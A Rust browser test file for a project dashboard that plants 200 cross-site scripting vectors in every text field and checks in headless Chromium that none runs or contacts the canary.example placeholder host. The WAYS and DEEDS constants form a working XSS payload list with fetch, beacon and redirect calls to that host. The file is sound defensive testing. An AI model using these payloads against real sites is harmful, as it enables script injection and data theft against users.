//! The dashboard in a real browser: whatever its texts hold, nothing runs, nothing is asked for and
//! nothing is complained of. Chromium is installed by `.ci/run`, and a run with `TPM_TEST_BROWSER` set
//! fails without it; elsewhere the tests of the page as text are all there are.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use chrono::NaiveDate;
use tpm::model::action::Action;
use tpm::model::ctx::Ctx;
use tpm::model::decision::{Decision, Role};
use tpm::model::id::Key;
use tpm::model::milestone::Milestone;
use tpm::model::need::Need;
use tpm::model::person::{Person, Workstream};
use tpm::model::risk::Risk;
use tpm::model::words::{DecisionRole, DueSource, Rag, RiskSort};
use tpm::store::{Journal, StoreError};

use crate::sandbox::Sandbox;

/// Where what runs would call.
const CANARY: &str = "canary.example";

/// What a vector would do: tell the console, or ask for something.
const DEEDS: [&str; 8] = [
    "console.log(`canary`)",
    "document.title=`canary`,console.error(`canary`)",
    "fetch(`https://canary.example/f`)",
    "new Image().src=`https://canary.example/i`",
    "navigator.sendBeacon(`https://canary.example/b`)",
    "location=`https://canary.example/l`",
    "import(`https://canary.example/m.js`)",
    "throw `canary`",
];

/// Ways to make a page do it; `DEED` stands for what is done.
const WAYS: [&str; 25] = [
    "<script>DEED</script>",
    "\"><script>DEED</script>",
    "'><script>DEED</script>",
    "</title><script>DEED</script>",
    "</style><script>DEED</script>",
    "</svg></p></td><script>DEED</script>",
    "--><script>DEED</script><!--",
    "]]><script>DEED</script>",
    "<scr<script>ipt>DEED</script>",
    "<img src=x onerror=\"DEED\">",
    "\" onload=\"DEED\" onerror=\"DEED\" onmouseover=\"DEED\" x=\"",
    "<svg onload=\"DEED\">",
    "<svg><script>DEED</script></svg>",
    "<svg><animate onbegin=\"DEED\" attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload='DEED'/>#x\"/></svg>",
    "<body onload=\"DEED\">",
    "<iframe srcdoc=\"<script>DEED</script>\"></iframe>",
    "<iframe src=\"javascript:DEED\"></iframe>",
    "<details open ontoggle=\"DEED\">x</details>",
    "<input autofocus onfocus=\"DEED\">",
    "<video><source onerror=\"DEED\"></video>",
    "<meta http-equiv=refresh content=\"0;url=javascript:DEED\">",
    "<style>@import 'https://canary.example/s';*{background:url(https://canary.example/u)}</style>DEED",
    "<link rel=stylesheet href=https://canary.example/c><object data=https://canary.example/o></object>DEED",
    "&lt;script&gt;DEED&lt;/script&gt;\u{202e}{{constructor.constructor('DEED')()}}",
];

/// How many vectors a page shows; more of a kind than these it leaves out.
const A_PAGE: usize = 10;

fn vectors() -> Vec<String> {
    let ways = WAYS
        .iter()
        .flat_map(|way| DEEDS.map(|deed| way.replace("DEED", deed)));
    let vectors: BTreeSet<String> = ways.collect();
    assert_eq!(vectors.len(), 200);
    vectors.into_iter().collect()
}

/// Returns where the browser is. Where it is to be tested, that it is missing is a failure.
fn browser() -> Option<PathBuf> {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let wanted = std::env::var("TPM_TEST_BROWSER");
    let name = wanted.as_deref().unwrap_or("chromium");
    let mut places = std::env::split_paths(&path).map(|folder| folder.join(name));
    let found = places.find(|place| place.is_file());
    assert!(
        found.is_some() || wanted.is_err(),
        "{name} is missing; .ci/run installs it"
    );
    found
}

/// What a browser did with a page.
struct Visit {
    /// What its pages told the console.
    console: Vec<String>,
    /// The hosts that were asked for, but for those of the browser's own makers.
    hosts: BTreeSet<String>,
    dom: String,
}

fn visit(browser: &Path, sandbox: &Sandbox, page: &Path) -> Visit {
    let home = sandbox.home();
    let log = home.join("net.json");
    let output = Command::new(browser)
        .args(["--headless=new", "--no-sandbox", "--disable-gpu"])
        .args(["--no-first-run", "--disable-background-networking"])
        .args(["--disable-component-update", "--disable-sync"])
        .args(["--disable-extensions", "--disable-default-apps"])
        .arg(format!(
            "--user-data-dir={}",
            home.join("profile").display()
        ))
        .arg("--host-resolver-rules=MAP * ~NOTFOUND")
        .args(["--enable-logging=stderr", "--v=0"])
        .arg(format!("--log-net-log={}", log.display()))
        .args(["--virtual-time-budget=2000", "--dump-dom"])
        .arg(format!("file://{}", page.display()))
        .env("HOME", home)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let told = String::from_utf8_lossy(&output.stderr);
    let asked = std::fs::read_to_string(log).unwrap();
    let hosts = asked.split("\"url\":\"").skip(1).filter_map(|rest| {
        let (url, _) = rest.split_once('"')?;
        let (_, place) = url.split_once("://")?;
        Some(place.split(['/', '?', ':']).next()?.to_owned())
    });
    Visit {
        console: told
            .lines()
            .filter(|line| line.contains(":CONSOLE:"))
            .map(str::to_owned)
            .collect(),
        hosts: hosts
            .filter(|host| !host.ends_with(".google.com"))
            .collect(),
        dom: String::from_utf8(output.stdout).unwrap(),
    }
}

/// Puts pages into frames of one, so that the browser starts once.
fn framed(sandbox: &Sandbox, pages: &[PathBuf]) -> PathBuf {
    let frames = pages
        .iter()
        .map(|page| format!("<iframe src=\"file://{}\"></iframe>", page.display()));
    let text = format!(
        "<!doctype html><title>frames</title>{}",
        frames.collect::<String>()
    );
    sandbox.write("frames.html", text)
}

/// Writes one of each kind with the vector in all its texts, all under the given workstream.
fn plant(
    journal: &mut Journal<'_>,
    ctx: &Ctx,
    parent: Key,
    vector: &str,
) -> Result<(), StoreError> {
    let text = || Some(vector.to_owned());
    let late: NaiveDate = "2026-11-10".parse().unwrap();
    let mut workstream = Workstream::new(vector.to_owned(), late);
    workstream.parent = Some(parent);
    workstream.name = text();
    workstream.rag = Some(Rag::Red);
    workstream.rag_reason = text();
    workstream.rag_on = Some(late);
    let workstream = Some(journal.create(&workstream)?);
    let mut person = Person::new(vector.to_owned());
    (person.name, person.email, person.team) = (text(), text(), text());
    let person = journal.create(&person)?;

    let mut decision = Decision::new(vector.to_owned(), late);
    (decision.context, decision.if_late) = (text(), text());
    (decision.due, decision.due_source) = (Some(late), DueSource::Explicit);
    decision.workstream = workstream;
    let decision = journal.create(&decision)?;
    journal.create(&Role::new(decision, person, DecisionRole::Decider, late))?;

    let mut action = Action::new(vector.to_owned(), ctx.now);
    (action.body, action.owner, action.due) = (text(), Some(person), Some(late));
    (action.workstream, action.serves) = (workstream, Some(decision));
    journal.create(&action)?;

    let mut risk = Risk::new(RiskSort::Risk, vector.to_owned(), late);
    (risk.cause, risk.effect, risk.response) = (text(), text(), text());
    (risk.trigger, risk.owner, risk.workstream) = (text(), Some(person), workstream);
    (risk.probability, risk.impact) = (Some(5), Some(5));
    journal.create(&risk)?;

    let mut need = Need::new(vector.to_owned(), late);
    (need.giver, need.taker, need.note) = (Some(person), workstream, text());
    (need.workstream, need.due) = (workstream, Some(late));
    journal.create(&need)?;

    let mut milestone = Milestone::new(vector.to_owned(), late);
    (milestone.owner, milestone.workstream) = (Some(person), workstream);
    (milestone.baseline, milestone.reason) = (Some(late), text());
    journal.create(&milestone)?;
    Ok(())
}

/// Returns the pages on which all vectors stand, ten on each.
fn planted(sandbox: &Sandbox) -> Vec<PathBuf> {
    sandbox.ok("workstream part-0");
    let vectors = vectors();
    let parts: Vec<&[String]> = vectors.chunks(A_PAGE).collect();
    sandbox.write_rows(|journal, ctx| {
        for (number, part) in parts.iter().enumerate() {
            let slug = format!("part-{number}");
            let parent = match journal.reader().workstream_named(&slug)? {
                Some(row) => row.key,
                None => journal.create(&Workstream::new(slug, ctx.today))?,
            };
            for vector in *part {
                plant(journal, ctx, parent, vector)?;
            }
        }
        Ok(())
    });
    let written = (0..parts.len()).map(|number| {
        sandbox.ok(&format!("dashboard -w part-{number} -o page-{number}.html"));
        sandbox.home().join(format!("page-{number}.html"))
    });
    written.collect()
}

/// The elements that a page may have; `script` is none of them.
const ELEMENTS: &str = "!doctype a body caption code dd details div dl dt figure footer h1 h2 h3 head \
    header html li line main meta nav ol p path rect section span strong style summary svg table tbody \
    td text th thead title tr ul";

/// The attributes that they may have; none of them runs anything, and only `href` names a place.
const ATTRIBUTES: &str = "aria-hidden aria-label aria-labelledby charset class colspan content cx cy d \
    height href html http-equiv id lang name overflow role rowspan rx scope tabindex text-anchor \
    viewbox width x x1 x2 y y1 y2";

/// Checks a page as text: only known elements, known attributes, and places on the page itself.
fn is_plain(page: &str) {
    // What is in quotes of an attribute never holds `<` or `>`: both are escaped.
    for piece in page.split('<').skip(1) {
        let (tag, _) = piece.split_once('>').unwrap();
        let mut parts = tag.splitn(2, [' ', '\n']);
        let name = parts.next().unwrap().trim_start_matches('/');
        let known = ELEMENTS
            .split_whitespace()
            .any(|known| known == name.to_lowercase());
        assert!(known, "<{tag}>");
        let attributes = parts.next().unwrap_or_default();
        for (place, part) in attributes.split('"').enumerate() {
            let key = part.trim().trim_end_matches('=').to_lowercase();
            let is_value = place % 2 == 1;
            let known = ATTRIBUTES.split_whitespace().any(|known| known == key);
            assert!(is_value || key.is_empty() || known, "{key} in <{tag}>");
        }
        assert!(
            !attributes.contains("href=\"") || attributes.contains("href=\"#"),
            "<{tag}>"
        );
    }
}

#[test]
fn two_hundred_vectors_are_text_in_every_field() {
    let sandbox = Sandbox::new();
    let pages = planted(&sandbox);
    let mut seen = 0;
    for page in &pages {
        let text = std::fs::read_to_string(page).unwrap();
        is_plain(&text);
        seen += text.matches("canary").count();
    }
    // Each stands on its page at least as a decision, an owner, a risk, a need and a milestone.
    assert!(seen > vectors().len() * 5, "{seen}");
}

#[test]
fn no_vector_runs_or_asks_for_anything_in_a_browser() {
    let Some(browser) = browser() else { return };
    let sandbox = Sandbox::new();
    let mut pages = planted(&sandbox);
    // The policy of the page is a second wall. The first one has to hold without it.
    for number in 0..pages.len() {
        let text = std::fs::read_to_string(&pages[number]).unwrap();
        let (before, rest) = text.split_once("<meta http-equiv").unwrap();
        let (_, after) = rest.split_once('>').unwrap();
        let name = format!("open-{number}.html");
        pages.push(sandbox.write(&name, format!("{before}{after}")));
    }
    let visit = visit(&browser, &sandbox, &framed(&sandbox, &pages));
    assert_eq!(visit.dom.matches("<iframe").count(), pages.len());
    assert!(visit.console.is_empty(), "{:#?}", visit.console);
    assert!(visit.hosts.is_empty(), "{:?}", visit.hosts);
}

#[test]
fn a_page_in_which_vectors_run_would_be_noticed() {
    let Some(browser) = browser() else { return };
    let sandbox = Sandbox::new();
    let vectors = vectors();
    let page = sandbox.write("bad.html", vectors.join("\n"));
    let visit = visit(&browser, &sandbox, &framed(&sandbox, &[page]));
    assert!(visit.console.iter().any(|line| line.contains("canary")));
    assert!(visit.hosts.contains(CANARY), "{:?}", visit.hosts);
}

#[test]
fn a_full_page_and_an_empty_one_make_no_complaint() {
    let Some(browser) = browser() else { return };
    let sandbox = Sandbox::new();
    sandbox.ok("dashboard -o empty.html");
    sandbox.ok("--demo dashboard -o demo.html");
    let pages = ["empty.html", "demo.html"].map(|name| sandbox.home().join(name));
    for page in &pages {
        let visit = visit(&browser, &sandbox, page);
        assert!(visit.console.is_empty(), "{:#?}", visit.console);
        assert!(visit.hosts.is_empty(), "{:?}", visit.hosts);
        assert!(visit.dom.contains("<main"), "{}", visit.dom);
        is_plain(&std::fs::read_to_string(page).unwrap());
    }
}
